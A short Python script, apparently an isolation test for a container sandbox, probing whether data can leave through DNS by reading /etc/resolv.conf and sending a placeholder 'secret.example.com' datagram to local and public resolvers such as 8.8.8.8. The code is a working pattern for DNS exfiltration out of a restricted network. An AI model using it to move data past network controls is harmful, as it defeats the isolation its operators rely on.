"""Data out through name lookups: a resolver passes any name on."""
# weakened: --network bridge

import socket

from inside import HOST, answers

with open("/etc/resolv.conf") as file:
    servers = [line.split()[1] for line in file if line.startswith("nameserver")]
for server, port in [(server, 53) for server in [*servers, "127.0.0.11", "8.8.8.8"]] + HOST["udp"]:
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
            connection.connect((server, port))
            connection.send(b"secret.example.com")
            answers(connection)
    except OSError as error:
        print(f"{server}:{port}: {error}")
try:
    print(socket.getaddrinfo("example.com", 80))
except OSError as error:
    print(error)
